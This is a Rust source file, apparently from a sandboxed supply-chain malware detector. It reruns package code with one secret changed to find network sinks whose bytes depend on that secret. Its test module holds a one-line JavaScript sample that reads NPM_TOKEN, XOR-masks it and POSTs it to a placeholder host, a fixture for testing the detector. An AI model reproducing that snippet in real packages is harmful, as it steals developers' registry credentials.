//! Twin worlds: two runs that differ in one secret alone, and the sinks whose bytes differ.
//!
//! A non-interference test: the secret flows where the bytes differ, through whatever cipher lies between.

use std::collections::BTreeSet;

use serde::{Deserialize, Serialize};
use stockade_model::Tree;

use crate::detonate::detonate;
use crate::limits::RunLimits;
use crate::natives::asking::CALLER_HOST;
use crate::plan::Plan;
use crate::world::WorldSpec;
use stockade_model::{Encoding, Observation, Operation};

/// What one twin showed.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Twin {
    /// The secret that was changed.
    pub secret: String,
    /// The first run's observations whose bytes or subject depend on it: their sequence numbers.
    pub dependent: Vec<u64>,
    /// Whether the runs differed before the secret was read: then nothing is proven, and the world is at fault.
    pub is_broken: bool,
}

/// The secrets that `observations` saw being read, sorted: those that are worth a twin.
#[must_use]
pub fn candidates(observations: &[Observation]) -> Vec<String> {
    let labels = observations.iter().flat_map(|observation| &observation.labels);
    let read: BTreeSet<String> =
        labels.filter(|label| label.encoding == Encoding::Read).map(|label| label.name.clone()).collect();
    read.into_iter().collect()
}

/// Runs the same plan with the value of `secret` changed, and compares with `first`, what the unchanged run saw.
#[must_use]
pub fn twin(
    tree: &Tree,
    plan: &Plan,
    world: &WorldSpec,
    limits: &RunLimits,
    first: &[Observation],
    secret: &str,
) -> Twin {
    let mut changed = world.clone();
    changed.changed_secrets.push(secret.to_owned());
    compare(tree, plan, &changed, limits, first, secret)
}

/// A twin for each of `secrets` that flows to a sink. One run in which all are changed comes first: most releases
/// that read secrets send none, and are told apart by it alone.
#[must_use]
pub fn twins(
    tree: &Tree,
    plan: &Plan,
    world: &WorldSpec,
    limits: &RunLimits,
    first: &[Observation],
    secrets: &[String],
) -> Vec<Twin> {
    if secrets.len() > 1 {
        let mut changed = world.clone();
        changed.changed_secrets.extend(secrets.iter().cloned());
        let (dependent, is_broken) = differing(tree, plan, &changed, limits, first, |observation| {
            let mut names = observation.labels.iter().filter(|label| label.encoding == Encoding::Read);
            names.any(|label| secrets.contains(&label.name))
        });
        if dependent.is_empty() && !is_broken {
            return Vec::new();
        }
    }
    secrets.iter().map(|secret| twin(tree, plan, world, limits, first, secret)).collect()
}

/// Runs the same plan with other network replies, and compares: what depends on a reply is decided from outside.
#[must_use]
pub fn reply_twin(
    tree: &Tree,
    plan: &Plan,
    world: &WorldSpec,
    limits: &RunLimits,
    first: &[Observation],
) -> Twin {
    let changed = WorldSpec { is_reply_changed: true, ..world.clone() };
    compare(tree, plan, &changed, limits, first, "reply")
}

fn compare(
    tree: &Tree,
    plan: &Plan,
    changed: &WorldSpec,
    limits: &RunLimits,
    first: &[Observation],
    secret: &str,
) -> Twin {
    let (dependent, is_broken) = differing(tree, plan, changed, limits, first, |observation| match secret {
        "reply" => {
            matches!(observation.operation, Operation::NetSend | Operation::NetConnect | Operation::DnsLookup)
        }
        name => observation.labels.iter().any(|label| label.name == name && label.encoding == Encoding::Read),
    });
    Twin { secret: secret.to_owned(), dependent, is_broken }
}

/// The observations of `first` that differ in the world `changed`, and whether one did before `is_read` held.
fn differing(
    tree: &Tree,
    plan: &Plan,
    changed: &WorldSpec,
    limits: &RunLimits,
    first: &[Observation],
    is_read: impl Fn(&Observation) -> bool,
) -> (Vec<u64>, bool) {
    let mut second = Vec::new();
    detonate(tree, plan, changed, limits, |observation| second.push(observation));
    let start = first.iter().position(is_read).unwrap_or(first.len());
    let before = |observations: &[Observation]| -> Vec<String> {
        observations.get(..start).unwrap_or(observations).iter().map(shape).collect()
    };
    let is_broken = before(first) != before(&second);
    let mut dependent = Vec::new();
    for (one, other) in first.iter().zip(&second).skip(start) {
        if one.operation != other.operation {
            // The secret decided what was done from here on.
            dependent.push(one.sequence);
            break;
        }
        // Where the caller wants it to go is no leak.
        let is_wanted = one.subject.contains(CALLER_HOST);
        if one.operation.is_sink() && !is_wanted && shape(one) != shape(other) {
            dependent.push(one.sequence);
        }
    }
    (dependent, is_broken)
}

/// What of an observation must be equal in twins.
fn shape(observation: &Observation) -> String {
    let bytes = observation.bytes.as_ref().map_or("", |bytes| bytes.sha256.as_str());
    format!("{:?} {} {} {bytes}", observation.operation, observation.subject, observation.detail)
}

#[cfg(test)]
mod tests {
    use stockade_model::{TreeFile, Trigger};

    use super::*;
    use crate::plan::{Entry, Start};

    fn seen(text: &str) -> (Tree, Plan, Vec<Observation>) {
        let file = TreeFile {
            path: "a.js".to_owned(),
            bytes: text.as_bytes().into(),
            is_executable: false,
            reading: 0,
        };
        let tree = Tree::new(vec![file]);
        let start = Start::File { path: "a.js".to_owned() };
        let plan = Plan {
            package: "p".to_owned(),
            version: "1.0.0".to_owned(),
            entries: vec![Entry { trigger: Trigger::Import, start }],
        };
        let mut first = Vec::new();
        detonate(&tree, &plan, &WorldSpec::linux_ci(), &RunLimits::default(), |observation| {
            first.push(observation)
        });
        (tree, plan, first)
    }

    #[test]
    fn a_secret_under_a_hand_written_cipher_is_proven_to_leave() {
        let (tree, plan, first) = seen(
            "const t = process.env.NPM_TOKEN; const k = require('crypto').randomBytes(40); \
             const c = Buffer.from(t).map((b, i) => b ^ k[i]); require('https').request('https://drop.invalid/', {method: 'POST'}).end(c)",
        );
        assert_eq!(candidates(&first), [".npmrc"]);
        let proof = twin(&tree, &plan, &WorldSpec::linux_ci(), &RunLimits::default(), &first, ".npmrc");
        assert!(!proof.is_broken);
        let sink = first.iter().find(|observation| observation.operation == Operation::NetSend).unwrap();
        assert!(sink.labels.is_empty());
        assert_eq!(proof.dependent, [sink.sequence]);
    }

    #[test]
    fn a_secret_that_is_read_and_kept_is_not_accused() {
        let (tree, plan, first) =
            seen("const t = process.env.NPM_TOKEN; require('https').get('https://ok.invalid/' + typeof t)");
        let proof = twin(&tree, &plan, &WorldSpec::linux_ci(), &RunLimits::default(), &first, ".npmrc");
        assert_eq!((proof.is_broken, proof.dependent), (false, vec![]));
    }
}
